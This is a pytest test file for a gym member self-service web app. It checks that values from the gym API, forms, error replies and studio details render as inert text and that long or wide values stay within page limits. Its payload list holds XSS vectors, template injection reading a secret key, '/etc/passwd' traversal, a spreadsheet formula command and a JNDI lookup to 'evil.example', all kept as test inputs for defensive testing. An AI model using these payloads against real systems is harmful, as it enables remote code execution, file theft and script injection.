"""Values that want to be more than text: they stay text, and no page grows beyond measure with them."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from selfservice.perfectgym.models import StudioInformation
from tests.member import Member
from tests.pageclient import form_values, texts
from tests.signin.visitor import FAMILY, Visitor, newest_code

if TYPE_CHECKING:
    from tests.journeys.person import Person

SETS = ["contact", "address", "master", "payment"]
MARKUP = [
    "{{ 7*7 }}{{ settings.SECRET_KEY }}",
    "{% debug %}{% load static %}{% include '/etc/passwd' %}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus='alert(1)",
    "</title></textarea></style><svg/onload=alert(1)>",
    "<!--",
    "]]>",
    "javascript:alert(1)",
    "&lt;b&gt; &amp; &#x3c;",
    "\u202etxt.exe\u2066\u2069",
    "a\x00b",
    "a\x08\x1b[31mb",
    "%s %(count)d {0} %n",
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/a}",
    "../../etc/passwd",
    "a\u0300" * 2000,
    "\ufdfd" * 400,
    "x" * 10_000,
    "wort " * 2000,
]


def spoil(member: Member, value: str, *, pending: bool = True) -> None:
    """Let the API hold `value` in every text of every set, and ask for another like it."""
    gym = member.sandbox.gym
    for slug in SETS:
        held = dict.fromkeys(member.values(slug), value)
        gym.clear_pending(member.customer_id, f"{slug}-data")
        gym.set_values(member.customer_id, f"{slug}-data", held)
        if pending:
            gym.set_pending(member.customer_id, f"{slug}-data", dict.fromkeys(held, f"{value}!"))


def is_text(page: Any, at_most: int = 250_000) -> None:
    """Fail when a value became an element, was calculated, or made the page endless; PageClient checked the rest."""
    html = page.content.decode()
    for trace in (
        "<script>alert",
        "<img src=x",
        "<svg/onload",
        " onfocus='",
        'href="javascript:',
        "settings.SECRET_KEY }}49",
    ):
        assert trace not in html
    assert len(html) < at_most
    assert "tests-only-" not in html


@pytest.mark.parametrize("value", MARKUP, ids=lambda text: ascii(text[:30]))
def test_what_perfectgym_holds_is_text(anna: Member, value: str) -> None:
    spoil(anna, value)
    for path in ("", *[f"{slug}/" for slug in SETS], *[f"{slug}/?change" for slug in SETS], "contact/withdraw/"):
        page = anna.get(path)
        assert page.status_code == 200
        is_text(page)


@pytest.mark.parametrize("value", MARKUP, ids=lambda text: ascii(text[:30]))
def test_what_a_form_shows_again_is_text(anna: Member, value: str) -> None:
    for slug in SETS:
        form = anna.open(slug)
        typed = {name: value for name in form if name not in ("csrfmiddlewaretoken", "basis")}
        is_text(anna.send(slug, form | typed))
        is_text(anna.send(slug, form | typed | {"refresh": "1"}))
        anna.sandbox.gym.set_status(1001, f"{slug}-data", "READ")
        is_text(anna.send(slug, form | typed), 50_000)


@pytest.mark.parametrize("value", MARKUP, ids=lambda text: ascii(text[:30]))
def test_what_perfectgym_says_of_an_error_is_text(jonas: Member, value: str) -> None:
    for reference in ("phonePrivate", value, ""):
        body = {"errorMessage": value, "errorCode": value, "reference": reference, "traceId": value}
        jonas.sandbox.faults.add("status", status=400, method="POST", body=body)
        is_text(jonas.change("contact", phone_private="030 23125555"))


@pytest.mark.parametrize("value", MARKUP, ids=lambda text: ascii(text[:30]))
def test_what_a_studio_is_called_is_text(visitor: Visitor, monkeypatch: pytest.MonkeyPatch, value: str) -> None:
    names = ("name", "email", "telephone", "website", "logoUrl", "countryCode")
    known = StudioInformation(raw=dict.fromkeys(names, value))
    monkeypatch.setattr("selfservice.studios.context.contact_of", lambda _studio: known)
    for path in ("sign-in/", "sign-in/code/", "nothing/"):
        is_text(visitor.get(path))


@pytest.mark.parametrize("value", MARKUP, ids=lambda text: ascii(text[:30]))
def test_what_a_family_is_called_is_text(visitor: Visitor, sandbox: Any, value: str) -> None:
    for customer in (1011, 1012):
        held = sandbox.gym.values(customer, "master-data")
        sandbox.gym.set_values(customer, "master-data", held | {"firstName": value, "lastName": value})
    visitor.ask(FAMILY)
    visitor.enter(newest_code())
    page = visitor.get("sign-in/member/")
    assert "Who are you?" in texts(page)
    is_text(page)
    assert len(page.content) < 20_000


def test_a_name_of_200_kilobytes_is_cut(visitor: Visitor, monkeypatch: pytest.MonkeyPatch) -> None:
    long = "Fit" * 70_000
    known = StudioInformation(raw={"name": long, "email": f"{long}@x.example", "website": f"https://{long}.example"})
    monkeypatch.setattr("selfservice.studios.context.contact_of", lambda _studio: known)
    page = visitor.get("sign-in/")
    assert "FitFitFit" in texts(page)
    assert len(page.content) < 10_000
    assert "mailto" not in page.content.decode(), "an address that was cut would be another one"


@pytest.mark.parametrize("name", ["street", "additional_address_information", "city"])
def test_what_is_too_long_to_show_goes_back_whole(jonas: Member, name: str) -> None:
    api_name = {"additional_address_information": "additionalAddressInformation"}.get(name, name)
    long = "Straße " * 2000 + "!"
    jonas.sandbox.gym.set_values(1002, "address-data", jonas.values("address") | {api_name: long})
    assert len(texts(jonas.get())) < 5_000
    assert form_values(jonas.get("address/"))[name] == long
    jonas.change("address", house_number="8")
    (sent,) = jonas.sent()
    assert (sent[api_name], sent["houseNumber"]) == (long, "8")


@pytest.mark.parametrize(
    "value", ["x" * 10_000, "\ufdfd" * 400, "\u202e" + "W" * 300], ids=["long", "wide", "backwards"]
)
def test_on_a_phone_nothing_runs_out_of_the_page(person: Person, value: str) -> None:
    for name in SETS:
        held = person.sandbox.gym.values(1001, f"{name}-data")
        person.sandbox.gym.set_values(1001, f"{name}-data", dict.fromkeys(held, value))
        person.sandbox.gym.set_pending(1001, f"{name}-data", dict.fromkeys(held, f"{value}!"))
    person.is_signed_in(1001)
    for path in ("profile/", "profile/master/", "profile/master/?change", "profile/address/withdraw/"):
        person.open(path)
        width, height = person.page.evaluate(
            "[document.documentElement.scrollWidth, document.documentElement.scrollHeight]"
        )
        assert width <= 360, path
        assert height < 40_000, path
